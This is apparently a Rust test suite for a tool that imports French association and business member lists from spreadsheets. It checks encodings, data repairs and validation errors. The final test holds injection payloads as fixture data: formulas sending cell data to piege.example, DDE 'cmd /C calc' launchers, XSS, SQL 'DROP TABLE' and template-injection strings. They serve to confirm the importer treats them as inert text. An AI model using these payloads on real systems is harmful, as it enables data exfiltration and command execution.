//! The other files, one test each.

use std::collections::BTreeSet;

use kernel::trade::{MemberSize, MemberStatus};

use super::*;

#[test]
fn associations_excel_fr() {
    let dry = dry("associations-excel-fr.csv");
    assert_eq!(dry.counts(), [40, 40, 0, 0, 0, 0]);
    assert_eq!(by_kind(dry.rows.iter().map(|row| &row.draft)), [0, 40, 0, 0]);
    assert_eq!((dry.report.encoding.as_deref(), dry.report.separator.as_deref()), (Some("Windows-1252"), Some(";")));
    assert_eq!(dry.repaired("phone.leading_zero"), BTreeSet::from([3, 7, 11, 15, 19, 23, 27, 31, 35, 39]));
    assert_eq!(dry.row(3).draft.contacts[0].phone.as_deref(), Some("+33353015422"));
    assert_eq!(dry.row(3).draft.internal_notes.as_deref(), Some("Adhésion gratuite – merci l’équipe !"));
    assert_eq!(dry.row(5).draft.internal_notes.as_deref(), Some("dit \"le petit local\""));
    assert_eq!(dry.row(6).draft.internal_notes.as_deref(), Some("prêt : gobelets ; nappes"));
    assert_eq!(dry.row(8).draft.internal_notes.as_deref(), Some("cœur de village"));
    for (row, day) in [(2, "2015-01-09"), (3, "2015-01-26"), (5, "2015-03-01")] {
        assert_eq!(dry.row(row).draft.joined_on.unwrap().on.to_string(), day);
    }
}

#[test]
fn communes_utf8_bom() {
    let dry = dry("communes-utf8-bom.csv");
    assert_eq!(dry.counts(), [26, 26, 0, 0, 0, 0]);
    assert_eq!(dry.report.columns[0].title, "nom");
    let andlau = &dry.row(2).draft;
    assert_eq!(andlau.street.as_deref(), Some("Mairie\n1, place de l'Église"));
    assert_eq!((andlau.postal_code.as_deref(), andlau.commune_name.as_deref()), (Some("67140"), Some("Andlau")));
    assert_eq!((andlau.insee_code.as_deref(), andlau.ex_officio), (Some("67010"), Some(true)));
    assert_eq!(dry.row(4).draft.description.as_deref(), Some("Point de réemploi ouvert le samedi 🙂"));
}

#[test]
fn what_may_not_be_shown_is_an_empty_cell() {
    let text = "Structure;Type;Adresse;Code postal;Commune\nAu Pain des Bois;Entreprise;[NON-DIFFUSIBLE];[NON-DIFFUSIBLE];Sélestat\n";
    let workbook = documents::read(text.as_bytes(), "essai.csv", &Limits::default()).unwrap();
    let dry = dry_run(&workbook, &Choices::default(), &[]);
    let draft = &dry.row(2).draft;
    let told = (draft.name.as_str(), draft.street.as_deref(), draft.postal_code.as_deref());
    assert_eq!(told, ("Au Pain des Bois", None, None));
}

#[test]
fn entreprises_texte_unicode() {
    let dry = dry("entreprises-texte-unicode.txt");
    assert_eq!(dry.counts(), [30, 30, 0, 0, 0, 0]);
    assert_eq!(by_kind(dry.rows.iter().map(|row| &row.draft)), [0, 0, 0, 30]);
    assert_eq!(dry.row(2).draft.size, Some(MemberSize::Small));
    assert_eq!(dry.row(4).draft.size, Some(MemberSize::Large));
    assert_eq!(dry.row(5).draft.size, Some(MemberSize::Small));
    for (row, day) in [(2, "2016-01-01"), (4, "2016-03-01"), (6, "2016-06-22"), (3, "2016-02-12")] {
        assert_eq!(dry.row(row).draft.joined_on.unwrap().on.to_string(), day);
    }
    assert_eq!(dry.repaired("phone.several"), BTreeSet::from([4, 10, 16, 22, 28]));
    assert_eq!(dry.repaired("email.several"), BTreeSet::from([6, 11, 16, 21, 26, 31]));
    assert!(dry.rows.iter().all(|row| row.draft.commune_code.is_some()));
    assert_eq!(dry.row(2).draft.commune_name.as_deref(), Some("Barr"));
}

#[test]
fn etablissements_ods() {
    let workbook = fixture("etablissements.ods");
    let first = dry_run(&workbook, &Choices::default(), &[]);
    assert_eq!(first.report.header_row, Some(3));
    let kinds = first.report.unknown_kinds.iter().map(|kind| (kind.written.clone(), kind.proposal.unwrap())).collect();
    let choices = Choices { kinds, ..Choices::default() };
    let dry = dry_run(&workbook, &choices, &[]);
    assert_eq!(dry.counts(), [32, 32, 0, 0, 0, 0]);
    assert_eq!(by_kind(dry.rows.iter().filter(|row| row.line == Line::Data).map(|row| &row.draft)), [0, 0, 32, 0]);
    assert_eq!(dry.row(37).line, Line::Total);
    assert!(dry.note("empty_rows")[0].contains("20"));
    assert!(dry.report.unknown_kinds.iter().all(|kind| kind.rows > 0));
    // The column of errors is harmless unless it is mapped.
    assert_eq!(dry.report.counts.warning, 0);
    let mapped = Choices { mapping: BTreeMap::from([(9, Some(Field::Description))]), ..choices };
    let dry = dry_run(&workbook, &mapped, &[]);
    assert_eq!(dry.with_problem("cell.error"), BTreeSet::from([13, 26]));
    assert_eq!(dry.counts(), [32, 32, 0, 0, 0, 0]);
    // A default kind serves as well as the words one by one.
    let by_default = Choices { default_kind: Some(MemberKind::PublicBody), ..Choices::default() };
    assert_eq!(dry_run(&workbook, &by_default, &[]).counts(), [32, 32, 0, 0, 0, 0]);
}

#[test]
fn relais_de_quartier_xls() {
    let dry = dry("relais-de-quartier.xls");
    assert_eq!(dry.counts(), [28, 28, 0, 0, 0, 0]);
    let odd: BTreeSet<u32> = (3..=29).step_by(2).collect();
    assert_eq!(dry.repaired("identifier.number"), odd);
    assert_eq!(dry.repaired("phone.leading_zero"), odd);
    assert_eq!(dry.row(2).draft.contacts[0].phone.as_deref(), Some("+33353016835"));
    assert_eq!(dry.row(2).draft.joined_on.unwrap().on.to_string(), "2014-09-01");
    assert_eq!(dry.row(3).draft.siret.as_deref(), Some("99901592800016"));
    assert!(dry.rows.iter().all(|row| matches!(row.draft.status, Some(MemberStatus::Active | MemberStatus::Paused))));
}

#[test]
fn forum_sep() {
    let dry = dry("forum-sep.csv");
    assert_eq!(dry.counts(), [24, 24, 0, 0, 0, 0]);
    assert_eq!(dry.report.header_row, Some(1));
    let joinery = &dry.row(3).draft;
    assert_eq!(joinery.name, "Menuiserie Vogelgrub");
    let contact = &joinery.contacts[0];
    assert_eq!((contact.given_name.as_str(), contact.family_name.as_str()), ("Patrick", "Steinflussel"));
    assert_eq!((contact.phone.as_deref(), contact.mobile.as_deref()), (Some("+33353017087"), Some("+33639987096")));
    let wish = |row: u32| dry.row(row).draft.contacts[0].newsletter_wish;
    assert_eq!((wish(2), wish(3), wish(4), wish(5)), (Some(true), Some(false), None, Some(true)));
}

#[test]
fn moitie_en_erreur() {
    let dry = dry("moitie-en-erreur.csv");
    assert_eq!(dry.counts(), [40, 20, 0, 0, 0, 20]);
    assert_eq!(dry.report.counts.warning, 5);
    let table = EXPECTED
        .lines()
        .skip_while(|line| !line.starts_with("| row | column | reason |"))
        .skip(2)
        .take_while(|line| line.starts_with('|'));
    let mut refused = BTreeSet::new();
    for line in table {
        let cells: Vec<&str> = line.trim_matches('|').split('|').map(str::trim).collect();
        let row: u32 = cells[0].parse().unwrap();
        let problems = &dry.row(row).findings.problems;
        let refusing: Vec<_> = problems.iter().filter(|problem| problem.severity == Severity::Refused).collect();
        assert_eq!(refusing.len(), 1, "{row}");
        let title = &dry.report.columns[refusing[0].column.unwrap()].title;
        assert_eq!(title, cells[1], "{row}");
        refused.insert(row);
    }
    assert_eq!(dry.rows_with(Outcome::Refused), refused);
    for (row, code) in [
        (3, "insee.length"),
        (5, "date.impossible"),
        (7, "kind.missing"),
        (9, "cell.error"),
        (11, "siren.key"),
        (13, "cell.error"),
        (15, "siret.destroyed"),
        (17, "siret.zeros"),
        (19, "siret.key"),
        (21, "cell.error"),
        (23, "cell.error"),
        (25, "siret.destroyed"),
        (27, "name.missing"),
        (29, "rna.without_w"),
        (31, "name.missing"),
        (33, "siret.length"),
        (35, "rna.length"),
        (37, "kind.unknown"),
        (39, "siret.letters"),
        (41, "date.month"),
    ] {
        assert_eq!(dry.row(row).findings.problems[0].code, code, "{row}");
    }
    assert_eq!(dry.row(29).findings.problems[0].suggestion.as_deref(), Some("W999000123"));
    for (row, field, suggestion) in [
        (8, Field::Email, None),
        (18, Field::Email, Some("bureau@orange.fr")),
        (26, Field::Phone, None),
        (32, Field::Commune, None),
        (38, Field::PostalCode, Some("67600")),
    ] {
        let row = dry.row(row);
        assert_eq!(row.outcome, Outcome::Create);
        let problem = row.findings.problems.iter().find(|problem| problem.severity == Severity::Warning).unwrap();
        assert_eq!((problem.field, problem.suggestion.as_deref()), (Some(field), suggestion), "{}", row.number);
    }
    assert_eq!(dry.row(32).draft.commune_name.as_deref(), Some("Trifouillis-les-Oies"));
    assert_eq!(dry.row(38).draft.postal_code, None);
    assert_eq!(dry.row(8).draft.contacts[0].email, None);
}

#[test]
fn injection_formules() {
    let dry = dry("injection-formules.csv");
    assert_eq!(dry.counts(), [20, 20, 0, 0, 0, 0]);
    for (row, name) in [
        (2, "=HYPERLINK(\"http://piege.example/?\"&B2;\"Cliquez ici\")"),
        (3, "=1+1"),
        (4, "@SUM(1+9)*cmd|' /C calc'!A0"),
        (16, "<script>alert(1)</script>"),
        (17, "Robert'); DROP TABLE members;--"),
        (21, "{{7*7}} ${7*7} <%= 7*7 %>"),
    ] {
        assert_eq!(dry.row(row).name, name);
    }
    for (row, notes) in [
        (6, "-2+3+cmd|' /C calc'!A0"),
        (7, "=1+2"),
        (8, "=1+2"),
        (10, "=1+1 (note du bureau)"),
        (12, "@le_club_zero"),
        (13, "- prêt de gobelets"),
        (14, "+ 2 adhérents"),
        (15, "=IMPORTXML(CONCAT(\"http://piege.example/?v=\";A1);\"//a\")"),
        (18, "＝1+1"),
        (20, "elpmaxe"),
    ] {
        assert_eq!(dry.row(row).draft.internal_notes.as_deref(), Some(notes), "{row}");
    }
    for (row, person) in [(11, "=cmd|'/C calc'!A1"), (19, "=DDE(\"cmd\";\"/C calc\";\"x\")")] {
        assert_eq!(dry.row(row).draft.contacts[0].full_name(), person);
    }
    assert_eq!(dry.row(5).draft.contacts[0].phone.as_deref(), Some("+33353019801"));
    assert_eq!(dry.row(9).draft.contacts[0].phone.as_deref(), Some("+33353019802"));
    let repaired: BTreeSet<u32> =
        dry.rows.iter().filter(|row| !row.findings.repairs.is_empty()).map(|row| row.number).collect();
    assert_eq!(repaired, BTreeSet::from([7, 8, 9, 10, 20]));
}
